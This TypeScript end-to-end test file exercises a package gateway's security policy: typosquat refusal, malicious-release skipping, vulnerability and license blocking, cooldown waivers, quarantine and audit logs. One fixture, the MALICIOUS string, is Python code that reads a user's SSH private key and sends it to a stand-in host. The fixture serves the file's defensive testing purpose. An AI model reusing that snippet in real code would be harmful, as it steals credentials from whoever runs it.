/**
 * The policy end to end, with pip and twine against a live gateway in front of a test upstream: typosquats refused
 * by name, a malicious newest release passed over for the clean one before it, vulnerable releases passed over for
 * fixed ones, the cooldown and its waiver, quarantine and its release, and the policy file reloaded without a
 * restart. The samples are inert: they are never installed into an interpreter that runs them.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DEFAULT_POLICY } from '../../src/policy/policy.js';
import { runCli } from '../helpers/cli.js';
import { startGateway, type TestGateway } from '../helpers/gateway.js';
import { isolatedPipEnv, runCommand } from '../helpers/packages.js';
import { startTestUpstream, type TestUpstream } from '../helpers/upstream.js';
import { buildWheel as buildTestWheel } from '../helpers/distributions.js';

/**
 * Inert: would read an SSH key and send it to a host that does not resolve (`.invalid`) when imported; the tests only
 * download it, never import it.
 */
const MALICIOUS = `import os, socket
def grab():
    key = open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read()
    s = socket.socket(); s.connect(("collect.example.invalid", 443)); s.sendall(key)
grab()
`;

const FAST_PRESCAN = { releases: 3, filesPerRelease: 4, maxBytes: 50 * 1024 * 1024, waitMs: 20_000 };

async function pip(gw: TestGateway, target: string, ...args: string[]) {
  return runCommand(
    'python3',
    ['-m', 'pip', '--isolated', 'install', '--no-cache-dir', '--disable-pip-version-check', '--only-binary', ':all:', '--target', target, '--index-url', `${gw.url}/simple/`, ...args],
    { env: isolatedPipEnv() },
  );
}

async function installed(target: string): Promise<string[]> {
  return (await readdir(target).catch(() => [])).filter((f) => f.endsWith('.dist-info')).sort();
}

const days = (n: number) => new Date(Date.now() - n * 86_400_000).toISOString();

test('the policy at work: typosquats, malware, vulnerabilities, cooldowns and waivers, quarantine', async (t) => {
  const upstream: TestUpstream = await startTestUpstream({
    projects: [
      { name: 'requests', releases: [{ version: '2.32.0', uploadTime: days(60) }] },
      { name: 'reqeusts', releases: [{ version: '1.0', uploadTime: days(60) }] },
      { name: 'inert-evil', releases: [{ version: '1.0', uploadTime: days(60) }, { version: '2.0', uploadTime: days(30), code: MALICIOUS }] },
      { name: 'Jinja2', releases: [{ version: '2.10', uploadTime: days(900) }, { version: '3.1.6', uploadTime: days(60) }] },
      { name: 'fresh', releases: [{ version: '1.0', uploadTime: days(30) }, { version: '1.1', uploadTime: new Date(Date.now() - 3_600_000).toISOString() }] },
      { name: 'customizer', releases: [{ version: '1.0', uploadTime: days(60), files: { 'sitecustomize.py': 'import sys\n' } }] },
    ],
  });
  t.after(() => upstream.close());
  const work = await mkdtemp(join(tmpdir(), 'gatehouse-policy-'));
  t.after(() => rm(work, { recursive: true, force: true }));
  const configFile = join(work, 'gatehouse.toml');
  const writePolicy = (extra: string) =>
    writeFile(
      configFile,
      `[policy.cooldown]\nminimum_age = "7d"\n\n[policy.vulnerabilities]\nblock_severity = "high"\n${extra}`,
    );
  await writePolicy('');
  const gw = await startGateway({
    listen: true,
    config: { upstreams: [{ name: 'test-upstream', url: upstream.url }], configFile },
    policy: 'config',
    prescan: FAST_PRESCAN,
  });
  t.after(() => gw.close());

  // A typosquat: the page is refused, and the reason names the real project.
  const squat = await fetch(`${gw.url}/simple/reqeusts/`);
  assert.equal(squat.status, 403);
  assert.match(squat.statusText, /requests/);
  assert.match(squat.headers.get('x-error-message') ?? '', /requests/);
  // pip reports a page's error at -vv ("Could not fetch URL …: 403 Client Error: <reason>").
  const pipSquat = await pip(gw, join(work, 'squat'), '-vv', 'reqeusts');
  assert.notEqual(pipSquat.code, 0);
  assert.match(pipSquat.stdout + pipSquat.stderr, /403 Client Error: refused by policy: 'reqeusts' looks like a typosquat of 'requests'/);

  // A malicious newest release: a plain install takes the clean one before it; a pin fails with the reason.
  const plain = await pip(gw, join(work, 'evil'), 'inert-evil');
  assert.equal(plain.code, 0, plain.stdout + plain.stderr);
  assert.deepEqual(await installed(join(work, 'evil')), ['inert_evil-1.0.dist-info']);
  const pinned = await pip(gw, join(work, 'evil-pinned'), 'inert-evil==2.0');
  assert.notEqual(pinned.code, 0);
  assert.match(pinned.stdout + pinned.stderr, /403 Client Error: inert_evil-2\.0-py3-none-any\.whl is refused by policy \(scanner\.malicious\): the scanner found it malicious/);

  // The same sample uploaded to a hosted project is refused, and twine prints why.
  const sampleDir = await mkdtemp(join(work, 'sample-'));
  const sample = buildTestWheel({ name: 'inert-evil-hosted', version: '1.0', code: MALICIOUS });
  await writeFile(join(sampleDir, sample.filename), sample.bytes);
  const token = await gw.token();
  const twine = await runCommand('twine', ['upload', '--non-interactive', '--disable-progress-bar', '--repository-url', `${gw.url}/legacy/`, '-u', '__token__', '-p', token, join(sampleDir, sample.filename)]);
  assert.notEqual(twine.code, 0);
  assert.match(twine.stdout + twine.stderr, /403.*refused by policy.*malicious/is);
  assert.equal(await gw.storage.hosted.fileByName(sample.filename), undefined, 'nothing stored');

  // A vulnerable release under "block high": a plain install gets the fixed one; a pin fails naming the advisory.
  const jinja = await pip(gw, join(work, 'jinja'), 'jinja2');
  assert.equal(jinja.code, 0, jinja.stderr);
  assert.deepEqual(await installed(join(work, 'jinja')), ['jinja2-3.1.6.dist-info']);
  const vulnerable = await pip(gw, join(work, 'jinja-old'), 'jinja2==2.10');
  assert.notEqual(vulnerable.code, 0);
  assert.match(vulnerable.stdout + vulnerable.stderr, /PYSEC-2026-1475/);

  // Cooldown: a release uploaded an hour ago is passed over for the older one.
  const fresh = await pip(gw, join(work, 'fresh'), 'fresh');
  assert.equal(fresh.code, 0, fresh.stderr);
  assert.deepEqual(await installed(join(work, 'fresh')), ['fresh-1.0.dist-info']);

  // A waiver lets it through, without a restart: the gateway watches its policy file.
  const waiver = (expires: string) => `\n[[policy.waiver]]\nproject = "fresh"\nversion = "1.1"\nrule = "cooldown.too-new"\nreason = "needed for the hotfix"\ngranted_by = "alice"\nexpires = "${expires}"\n`;
  const before = gw.app.services.policy.state.revisions.policy;
  await writePolicy(waiver(new Date(Date.now() + 86_400_000).toISOString()));
  for (let i = 0; i < 100 && gw.app.services.policy.state.revisions.policy === before; i++) await new Promise((r) => setTimeout(r, 100));
  assert.notEqual(gw.app.services.policy.state.revisions.policy, before, 'the edited policy file was reloaded');
  const waived = await pip(gw, join(work, 'fresh-waived'), 'fresh');
  assert.equal(waived.code, 0, waived.stderr);
  assert.deepEqual(await installed(join(work, 'fresh-waived')), ['fresh-1.1.dist-info']);
  // The waiver's expiry ends it.
  await writePolicy(waiver(new Date(Date.now() - 1000).toISOString()));
  await gw.app.services.policy.state.reload();
  const expired = await pip(gw, join(work, 'fresh-expired'), 'fresh');
  assert.equal(expired.code, 0, expired.stderr);
  assert.deepEqual(await installed(join(work, 'fresh-expired')), ['fresh-1.0.dist-info']);

  // A suspicious file is quarantined; a release with a reason lets pip install it; the decision says who and why.
  const held = await pip(gw, join(work, 'held'), 'customizer');
  assert.notEqual(held.code, 0, 'a quarantined file is not served');
  const listed = await runCli(['quarantine', 'list', '--format', 'json', '--data', gw.dataDir]);
  assert.equal(listed.code, 0, listed.stderr);
  const quarantined = (JSON.parse(listed.stdout) as { quarantined: Array<{ decision: string; filename: string }> }).quarantined;
  const entry = quarantined.find((q) => q.filename === 'customizer-1.0-py3-none-any.whl');
  assert.ok(entry, JSON.stringify(quarantined));
  const release = await runCli(['quarantine', 'release', entry.decision, '--reason', 'the sitecustomize only imports sys', '--data', gw.dataDir, '--config', configFile]);
  assert.equal(release.code, 0, release.stderr);
  assert.match(release.stdout, /released/);
  await new Promise((r) => setTimeout(r, 1100)); // the gateway sees other processes' reviews within a second
  const allowed = await pip(gw, join(work, 'held-released'), 'customizer');
  assert.equal(allowed.code, 0, allowed.stdout + allowed.stderr);
  const explained = await runCli(['explain', 'customizer', '--data', gw.dataDir, '--config', configFile]);
  assert.match(explained.stdout, /RELEASED/);
  assert.match(explained.stdout, /scanner\.suspicious/);
  // The log shows who released it and why, after the decision that held it; and it verifies.
  const exported = await runCli(['log', 'export', '--data', gw.dataDir]);
  assert.equal(exported.code, 0, exported.stderr);
  const log = exported.stdout.trim().split('\n').map((l) => JSON.parse(l) as { kind: string; actor: string; subject: { filename: string | null }; payload: Record<string, unknown> });
  const released = log.find((e) => e.kind === 'quarantine.release' && e.subject.filename === 'customizer-1.0-py3-none-any.whl');
  assert.ok(released, 'a quarantine.release entry');
  assert.match(released.actor, /^cli:/);
  assert.equal(released.payload.reason, 'the sitecustomize only imports sys');
  assert.ok(log.some((e) => e.kind === 'decision' && e.subject.filename === 'customizer-1.0-py3-none-any.whl' && e.payload.state === 'quarantined'));
  assert.ok(log.some((e) => e.kind === 'waiver.added'), 'the waiver granted by editing the policy file');
  const verify = await runCli(['log', 'verify', '--data', gw.dataDir]);
  assert.equal(verify.code, 0, verify.stderr);
});

test('a denied license blocks; the same rule in dry run serves the file and records what it would have done', async (t) => {
  const upstream = await startTestUpstream({
    projects: [
      { name: 'copyleft', releases: [{ version: '1.0', uploadTime: days(60), metadata: ['License-Expression: GPL-3.0-only'] }] },
      { name: 'permissive', releases: [{ version: '1.0', uploadTime: days(60), metadata: ['License-Expression: MIT OR GPL-3.0-only'] }] },
    ],
  });
  t.after(() => upstream.close());
  const work = await mkdtemp(join(tmpdir(), 'gatehouse-license-'));
  t.after(() => rm(work, { recursive: true, force: true }));
  const licenses = (mode: 'enforce' | 'dry-run') => ({ ...DEFAULT_POLICY.licenses, mode, deny: ['GPL-3.0-only'] });
  const base = { ...structuredClone(DEFAULT_POLICY), cooldown: { ...DEFAULT_POLICY.cooldown, minimumAgeMs: 0 } };
  const config = { upstreams: [{ name: 'test-upstream', url: upstream.url }] };

  const enforced = await startGateway({ listen: true, config, policy: { ...base, licenses: licenses('enforce') }, prescan: FAST_PRESCAN });
  t.after(() => enforced.close());
  const denied = await pip(enforced, join(work, 'denied'), 'copyleft==1.0');
  assert.notEqual(denied.code, 0);
  assert.match(denied.stdout + denied.stderr, /403 Client Error: copyleft-1\.0-py3-none-any\.whl is refused by policy \(licenses\.denied\)/);
  const choice = await pip(enforced, join(work, 'choice'), 'permissive');
  assert.equal(choice.code, 0, 'MIT OR GPL-3.0-only leaves the user the MIT choice');

  const dryRun = await startGateway({ listen: true, config, policy: { ...base, licenses: licenses('dry-run') }, prescan: FAST_PRESCAN });
  t.after(() => dryRun.close());
  const served = await pip(dryRun, join(work, 'dry'), 'copyleft');
  assert.equal(served.code, 0, served.stdout + served.stderr);
  const row = (await dryRun.storage.decisions.list({ project: 'copyleft' })).find((r) => r.filename.endsWith('.whl'))!;
  assert.deepEqual([row.state, row.outcome, row.would_be], ['allowed', 'allow', 'block'], 'recorded: served, and what enforcing would have done');
  const metrics = await (await fetch(`${dryRun.url}/metrics`)).text();
  assert.match(metrics, /gatehouse_decision_rules_total\{rule="licenses\.denied",outcome="block",mode="dry-run"\} [1-9]/);
});
